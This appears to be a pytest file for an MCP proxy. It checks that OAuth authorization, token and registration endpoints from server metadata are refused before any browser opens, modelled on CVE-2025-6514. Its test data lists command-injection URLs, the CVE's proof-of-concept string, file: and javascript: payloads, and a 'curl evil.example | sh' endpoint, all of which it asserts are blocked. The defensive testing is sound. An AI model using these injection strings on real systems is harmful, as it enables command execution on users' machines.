"""Sign-in addresses checked before a browser opens (``oauth.urls``), the way mcp-remote's
CVE-2025-6514 (an authorization endpoint handed to the OS's opener ran a command) should have been.

The rules on their own; the provider refusing a metadata document's endpoints before the SDK
reads them; and a whole sign-in against a fake authorization server on loopback (a real
uvicorn) whose metadata names a ``file:`` or a shell-laden authorization endpoint: the
browser opener is never called and the result is ``AUTH_FAILED``.
"""

from __future__ import annotations

import json
import logging
import webbrowser
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import httpx2
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from mcp_patchbay.config import RemoteSpec, Settings, parse_config
from mcp_patchbay.errors.tree import Code, UpstreamError
from mcp_patchbay.oauth import signin
from mcp_patchbay.oauth.gate import SignInGate
from mcp_patchbay.oauth.provider import UpstreamAuth
from mcp_patchbay.oauth.store import TokenStore, file_for
from mcp_patchbay.oauth.urls import RefusedUrl, browser_refusal, endpoint_refusal, shown
from tests.servers.http_fault_server import serving

pytestmark = pytest.mark.anyio

SHELL_LADEN = "https://auth.example/authorize$(touch${IFS}/tmp/pwned)"
REFUSED_ENDPOINTS = [
    "file:///etc/passwd",
    "javascript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "a:$(cmd.exe /c whoami > c:\\temp\\pwned.txt)",  # CVE-2025-6514's proof of concept
    SHELL_LADEN,
    "https://auth.example/`id`",
    "https://auth.example/authorize;rm",
    "https://auth.example/authorize|sh",
    "https://auth.example/a&b",
    "https://auth.example/a b",
    "https://auth.example/\x1b[2J",
    "https://user:pass@auth.example/authorize",
    "https:///authorize",
    "https://auth.example:99999/authorize",
    "http://auth.example/authorize",  # plain http beyond loopback
    "ftp://auth.example/authorize",
    "//auth.example/authorize",
]


@pytest.mark.parametrize("url", REFUSED_ENDPOINTS)
def test_an_endpoint_that_is_not_https_or_not_plain_is_refused(url: str) -> None:
    assert endpoint_refusal(url) is not None
    assert browser_refusal(url + "?response_type=code&state=abc") is not None


@pytest.mark.parametrize(
    "url",
    [
        "https://auth.example/authorize",
        "https://login.example.com:8443/tenant-1/oauth2/v2.0/authorize",
        "http://127.0.0.1:8080/authorize",
        "http://127.9.9.9/authorize",
        "http://localhost:3000/authorize",
        "http://[::1]:3000/authorize",
    ],
)
def test_https_and_loopback_http_are_accepted(url: str) -> None:
    assert endpoint_refusal(url) is None
    query = "response_type=code&client_id=abc&redirect_uri=http%3A%2F%2F127.0.0.1%3A5000%2Fcallback&scope=a+b"
    assert browser_refusal(f"{url}?{query}") is None


def test_plain_http_is_accepted_only_at_the_configs_own_origin() -> None:
    assert endpoint_refusal("http://mcp.lan:8000/token", http_origin="http://mcp.lan:8000/mcp") is None
    assert endpoint_refusal("http://other.lan:8000/token", http_origin="http://mcp.lan:8000/mcp") is not None
    assert endpoint_refusal("http://mcp.lan:8000/$(x)", http_origin="http://mcp.lan:8000/mcp") is not None


def test_the_browser_query_may_hold_only_what_urlencode_writes() -> None:
    assert browser_refusal("https://auth.example/authorize?state=$(id)") is not None
    assert browser_refusal("https://auth.example/authorize?state=a;b") is not None


def test_a_url_in_a_log_line_has_its_secret_parameters_cut() -> None:
    line = shown("https://auth.example/authorize?response_type=code&state=s3cr3t&code=c0de&client_id=app")
    assert line == "https://auth.example/authorize?response_type=code&state=***&code=***&client_id=app"
    assert shown("https://auth.example/\x1b[2J") == "https://auth.example/\\x1b[2J"


# --- the provider: metadata refused as it arrives -------------------------------------------

URL = "https://mcp.example/mcp"
CONFIG_PATH = Path("/virtual/patchbay.json").resolve()
BEARER = {"www-authenticate": 'Bearer resource_metadata="https://mcp.example/.well-known/oauth-protected-resource"'}


class FakeServers:
    """The MCP server (401), its protected resource metadata and its authorization server."""

    def __init__(self, **endpoints: Any) -> None:
        self.metadata = {
            "issuer": "https://mcp.example/",
            "authorization_endpoint": "https://mcp.example/authorize",
            "token_endpoint": "https://mcp.example/token",
            "registration_endpoint": "https://mcp.example/register",
            **endpoints,
        }
        self.resource: dict[str, Any] = {"resource": URL, "authorization_servers": ["https://mcp.example/"]}
        self.seen: list[str] = []

    def __call__(self, request: httpx2.Request) -> httpx2.Response:
        self.seen.append(f"{request.method} {request.url}")
        path = request.url.path
        if path.startswith("/.well-known/oauth-protected-resource"):
            return httpx2.Response(200, json=self.resource)
        if path.startswith("/.well-known/oauth-authorization-server"):
            return httpx2.Response(200, json=self.metadata)
        if path == "/register":
            return httpx2.Response(201, json={"client_id": "c1", "redirect_uris": ["http://127.0.0.1:1/callback"]})
        return httpx2.Response(401, headers=BEARER)


class Opened(Exception):
    """The redirect handler was reached: the flow would have opened the browser."""


async def run_flow(servers: FakeServers, tmp_path: Path) -> list[str]:
    """An interactive sign-in's flow on ``servers``; the URLs its redirect handler was given."""
    opened: list[str] = []

    async def redirect(url: str) -> None:
        opened.append(url)
        raise Opened

    async def callback() -> Any:
        raise AssertionError("never reached")

    store = TokenStore(URL, file_for(URL, tmp_path / "oauth"))
    auth = UpstreamAuth(
        URL,
        store,
        None,
        "http://127.0.0.1:1/callback",
        interactive=True,
        redirect_handler=redirect,
        callback_handler=callback,
    )
    async with httpx2.AsyncClient(auth=auth, transport=httpx2.MockTransport(servers)) as client:
        with anyio.fail_after(10):
            await client.post(URL, json={"jsonrpc": "2.0", "id": 1, "method": "initialize"})
    return opened


async def test_a_good_metadata_document_reaches_the_browser_step(tmp_path: Path) -> None:
    """The control: with nothing wrong, the flow gets as far as the browser."""
    with pytest.raises(Opened):
        await run_flow(FakeServers(), tmp_path)


@pytest.mark.parametrize("endpoint", ["file:///etc/passwd", SHELL_LADEN, "javascript:alert(1)"])
async def test_a_refused_authorization_endpoint_stops_the_flow_before_registration(
    tmp_path: Path, endpoint: str, caplog: pytest.LogCaptureFixture
) -> None:
    servers = FakeServers(authorization_endpoint=endpoint)
    with caplog.at_level(logging.WARNING, "mcp_patchbay.oauth"), pytest.raises(RefusedUrl) as refused:
        await run_flow(servers, tmp_path)
    assert refused.value.code is Code.AUTH_FAILED and refused.value.what == "authorization endpoint"
    assert not any("/register" in seen or "/authorize" in seen for seen in servers.seen), servers.seen
    assert "refused the authorization endpoint" in caplog.text


@pytest.mark.parametrize(
    ("key", "what"), [("token_endpoint", "token endpoint"), ("registration_endpoint", "registration endpoint")]
)
async def test_a_refused_token_or_registration_endpoint_is_never_sent_to(tmp_path: Path, key: str, what: str) -> None:
    servers = FakeServers(**{key: "https://evil.example/x;curl${IFS}evil.example|sh"})
    with pytest.raises(RefusedUrl) as refused:
        await run_flow(servers, tmp_path)
    assert refused.value.what == what
    assert not any("evil.example" in seen for seen in servers.seen)


async def test_an_authorization_server_named_by_resource_metadata_is_checked(tmp_path: Path) -> None:
    servers = FakeServers()
    servers.resource["authorization_servers"] = ["http://auth.example/"]  # plain http, not loopback
    with pytest.raises(RefusedUrl) as refused:
        await run_flow(servers, tmp_path)
    assert refused.value.what == "authorization server"
    assert not any("auth.example" in seen for seen in servers.seen)


# --- a whole sign-in against a fake authorization server on loopback ---------------------------


def evil_world(bad_endpoint: str, seen: list[str]) -> Starlette:
    async def endpoint(request: Request) -> Response:
        seen.append(f"{request.method} {request.url.path}")
        base = f"http://{request.url.netloc}"
        path = request.url.path
        if path.startswith("/.well-known/oauth-protected-resource"):
            return JSONResponse({"resource": f"{base}/mcp", "authorization_servers": [f"{base}/"]})
        if path.startswith("/.well-known/oauth-authorization-server"):
            return JSONResponse(
                {
                    "issuer": f"{base}/",
                    "authorization_endpoint": bad_endpoint,
                    "token_endpoint": f"{base}/token",
                    "registration_endpoint": f"{base}/register",
                }
            )
        if path == "/register":
            body = json.loads(await request.body())
            return JSONResponse({"client_id": "c1", "redirect_uris": body["redirect_uris"]}, status_code=201)
        if path == "/mcp":
            challenge = f'Bearer resource_metadata="{base}/.well-known/oauth-protected-resource"'
            return Response(status_code=401, headers={"www-authenticate": challenge})
        return Response(status_code=404)

    return Starlette(routes=[Route("/{path:path}", endpoint, methods=["GET", "POST", "DELETE"])])


@pytest.fixture
def browsers(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Every URL anything tried to open in a browser (none may be)."""
    opened: list[str] = []

    def record(url: str, *args: Any, **kwargs: Any) -> bool:
        opened.append(url)
        return True

    async def opener(url: str) -> bool:
        opened.append(url)
        return True

    monkeypatch.setattr(webbrowser, "open", record)
    monkeypatch.setattr(signin, "open_in_browser", opener)
    return opened


@asynccontextmanager
async def evil_server(bad_endpoint: str, seen: list[str]) -> AsyncGenerator[RemoteSpec]:
    async with serving(evil_world(bad_endpoint, seen)) as base:
        document = {"mcpServers": {"evil": {"url": f"{base}/mcp"}}}
        entry = parse_config(json.dumps(document), CONFIG_PATH, environ={}).servers[0]
        assert isinstance(entry.spec, RemoteSpec)
        yield entry.spec


@pytest.mark.parametrize("bad_endpoint", ["file:///etc/passwd", SHELL_LADEN])
async def test_login_against_a_hostile_authorization_server_never_opens_the_browser(
    tmp_path: Path, browsers: list[str], bad_endpoint: str
) -> None:
    seen: list[str] = []
    async with evil_server(bad_endpoint, seen) as spec:
        store = TokenStore(spec.url, file_for(spec.url, tmp_path / "oauth"))
        shown_urls: list[str] = []

        async def show(url: str) -> None:  # what 'mcp-patchbay login' does: print it, open it
            shown_urls.append(url)
            await signin.open_in_browser(url)

        with pytest.raises(UpstreamError) as failed:
            await signin.sign_in("evil", spec, store, show, timeout=20)
    error = failed.value
    assert error.code is Code.AUTH_FAILED and error.server == "evil"
    assert "'evil'" in error.message and "authorization endpoint" in error.message, error.message
    assert "Nothing was opened" in error.message and len(error.message) < 500
    assert bad_endpoint not in error.message  # the model is not shown the address
    assert shown_urls == [] and browsers == []
    assert "POST /register" not in seen and not store.signed_in()


async def test_a_served_sign_in_refuses_it_too_and_the_call_gets_auth_failed(
    tmp_path: Path, browsers: list[str]
) -> None:
    seen: list[str] = []
    async with evil_server(SHELL_LADEN, seen) as spec:
        store = TokenStore(spec.url, file_for(spec.url, tmp_path / "oauth"))
        gate = SignInGate("evil", spec, Settings(), store)
        with anyio.fail_after(30):
            async with anyio.create_task_group() as tg:
                tg.start_soon(gate.run)
                answer = await gate.needed("echo")
                tg.cancel_scope.cancel()
    assert answer.code is Code.AUTH_FAILED and answer.server == "evil", answer
    assert "authorization endpoint" in answer.message
    assert browsers == [] and gate.browser_opened is None
